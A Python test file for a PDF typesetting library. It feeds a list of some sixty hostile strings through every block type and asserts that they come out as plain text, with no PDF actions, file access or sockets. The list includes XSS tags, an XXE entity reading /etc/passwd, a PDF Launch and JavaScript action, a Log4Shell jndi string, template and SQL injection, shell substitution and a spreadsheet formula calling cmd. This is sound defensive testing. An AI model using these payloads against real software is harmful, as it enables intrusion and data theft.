"""Nothing that somebody typed is ever markup, an address to open, or a reason to fail."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pikepdf
import pymupdf
import pytest

from documents.typesetting import (
    A4,
    BarChart,
    Block,
    Bookmark,
    Cell,
    Column,
    Contents,
    Item,
    Leader,
    Metadata,
    NumberedList,
    Paragraph,
    Row,
    Run,
    RunParagraph,
    Section,
    Series,
    ShareChart,
    Style,
    TabbedLine,
    Table,
    TabStop,
    set_document,
)
from tests.documents.typesetting.reading import by_mupdf

ROOT = Path(__file__).resolve().parents[3]

HOSTILE = [
    # markup of several tongues
    "<b>หนา</b>",
    "<img src='file:///etc/passwd'>",
    '<img src="http://192.0.2.1/x.png" width="1">',
    "<a href='http://192.0.2.1/'>คลิก</a>",
    "<para align='center'>กลาง</para>",
    "<font name='Helvetica' size='99'>ใหญ่</font>",
    "<br/><br><BR />",
    "<script>alert(1)</script>",
    "<style>* {display: none}</style>",
    "<link rel='stylesheet' href='//192.0.2.1/x.css'>",
    "<svg onload=alert(1)><use href='file:///etc/passwd'/></svg>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<![CDATA[ก]]>",
    "<?xml version='1.0'?>",
    "<!-- ความเห็น -->",
    "&lt;b&gt; &amp;amp; &nbsp; &#3585; &#x0e01;",
    "<onDraw name='os.system' label='id'/>",
    "<bullet>x</bullet><seq id='a'/>",
    "<unichar code='0x0e01'/>",
    # addresses
    "http://192.0.2.1/ https://x.example/?q=<ก>&b",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "file:///etc/passwd",
    "\\\\192.0.2.1\\share\\x.png",
    "mailto:a@b.c?subject=x",
    # what PDF, PostScript and fonts read
    ") Tj ET Q endstream endobj",
    "]TJ /F1 99 Tf (x) Tj [",
    "<< /Type /Action /S /Launch /F (calc.exe) >>",
    "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    "%PDF-1.7 %%EOF startxref 0",
    "<FEFF0E01> <0001> beginbfchar",
    "BDC /P <</MCID 0>> EMC BT",
    "\\050\\051 \\\\ \\r\\n",
    "@ <@> ]TJ /F1.1 @ Tf[",
    # templates and formats
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
    "${jndi:ldap://192.0.2.1/a}",
    "#{7*7} <%= 7*7 %>",
    "%s %d %n %(x)s {0} {x.__class__}",
    '=HYPERLINK("http://192.0.2.1","x")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "'; DROP TABLE plans; --",
    "../../../etc/passwd\u2044..",
    "$(id) `id` | id ; id && id",
    "\\input{/etc/passwd} $x^2$",
    # letters that turn, hide or pile up
    "\u202eกลับ\u202c",
    "ก\u200eข\u200fค\u061cง",
    "\u2066ก\u2069 \u2067ข\u2069 \u2068ค\u2069",
    "\u202a\u202b\u202d\u202eก\u202c\u202c\u202c\u202c",
    "ก\u200bข\u200cค\u200dง\u2060จ\ufeff",
    "ก" + "\u0e48" * 60,
    "e" + "\u0301" * 200,
    "\u0e33\u0e33\u0e33 \u0e47\u0e47",
    "\U000e0001\U000e0041\U000e007f",
    "\ufff9ก\ufffaข\ufffb",
    "\ufffe\uffff\U0001fffe\U0010ffff",
    "\ue000\U000f0000\U00100000",
    "\u2028\u2029\x85",
    "\x7f\x80\x9f",
    # what no PDF can hold
    "ก\0ข",
    "\x01\x07\x08\x0b\x0c\x1b[31m\x1f",
    "ก\ud83dข \udc00",
    # length
    "ก" * 3_000,
    "a" * 3_000,
    "<" * 3_000,
    "(" * 500 + ")" * 500,
    " " * 3_000 + "ก",
    "\n" * 200,
]
"""One text of each kind of mischief."""

NOT_FOR_PAPER = re.compile("[\0-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]")


def everywhere(text: str) -> list[Block]:
    """Return a block of each kind with the text in all its places."""
    bars = BarChart(text, [text], [Series(text, [Decimal(1)])], unit=text, alt=text)
    charts: list[Block] = [bars, ShareChart(text, [(text, 1)], unit=text)] if len(text) < 400 else []
    return [
        Bookmark(text),
        Paragraph(text, Style(align="justify"), label=text[:40], label_width=60),
        RunParagraph([Run(text), Run(text, "bold", 14)]),
        NumberedList([Item(text, [Item([Run(text)], label=text[:40])])]),
        TabbedLine([text, text], [TabStop(200, dotted=True)]),
        Leader(text, text),
        Table([Column(text, 1), Column(text, 1, "right")], [Row([Cell(text, rows=2), text]), Row([text])]),
        *charts,
    ]


def pdf_of(text: str, *, tagged: bool = True) -> bytes:
    facts = Metadata(text, author=text, subject=text, keywords=text)
    sections = [Section(A4, [Contents()]), Section(A4, everywhere(text))]
    return set_document(sections, facts, tagged=tagged).pdf


def test_there_are_sixty_different_hostile_texts() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
def test_hostile_text_is_set_everywhere_and_is_nothing_but_text(text: str) -> None:
    with pikepdf.open(io.BytesIO(pdf_of(text))) as opened:
        assert opened.check_pdf_syntax() == []
        allowed = {"/Catalog", "/Page", "/Pages", "/Font", "/FontDescriptor", "/Outlines", "/Metadata", "/OutputIntent"}
        kinds = {str(part.get("/Type", "")) for part in opened.objects if isinstance(part, pikepdf.Dictionary)}
        assert kinds - allowed <= {"", "/StructTreeRoot", "/StructElem", "/ExtGState"}
        actions = {"/OpenAction", "/AA", "/AcroForm", "/JavaScript", "/EmbeddedFiles"}
        assert actions.isdisjoint(opened.Root.keys())
        assert all("/Annots" not in page and "/AA" not in page for page in opened.pages)


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
def test_hostile_text_is_read_back_with_only_what_no_pdf_can_hold_replaced(text: str) -> None:
    pdf = set_document([Section(A4, [Paragraph(text)])], Metadata("ก")).pdf
    # No reader gives noncharacters, C1 controls and runs of white space back as they are.
    odd = re.compile("[\\s\x7f-\x9f\u2028\u2029\ufffe\uffff\U0001fffe\U0010ffff\ufffd\r]")
    expected = odd.sub("", NOT_FOR_PAPER.sub("\ufffd", text))
    found = odd.sub("", by_mupdf(pdf))
    assert (
        sorted(found) == sorted(expected)
        if re.search("[\u202a-\u202e\u2066-\u2069\u200f]", text)
        else found == expected
    )


@pytest.mark.parametrize("unit", ["ก", "ตากลม", "a", "😀", "(", "\u0e48"], ids=ascii)
def test_a_hundred_thousand_letters_without_a_space_are_set(unit: str) -> None:
    text = (unit * 100_000)[:100_000]
    document = set_document([Section(A4, [Paragraph(text)])], Metadata("ยาว"))
    with pymupdf.open(stream=document.pdf) as opened:
        assert len(opened) == document.page_count > (0 if unit == "\u0e48" else 10)


def test_no_file_and_no_socket_is_opened_while_hostile_text_is_set() -> None:
    program = """
import sys
from documents.typesetting.words import parts_of_compound
from tests.documents.typesetting.test_hostile_text import HOSTILE, pdf_of

pdf_of("ก")
parts_of_compound("ตากลมตากลม")
opened = []
watched = ("open", "socket.", "subprocess.", "os.", "urllib.", "ftplib.", "http.", "shutil.", "glob.", "ctypes.dlopen")

def watch(event, arguments):
    if event.startswith(watched):
        opened.append((event, repr(arguments)[:80]))

sys.addaudithook(watch)
for text in HOSTILE:
    pdf_of(text)
pages = len(HOSTILE)
sys.stdout.write(f"{pages} {opened}")
"""
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-c", program], cwd=ROOT, env=environment, capture_output=True, text=True, check=True
    )
    assert done.stdout == f"{len(HOSTILE)} []"
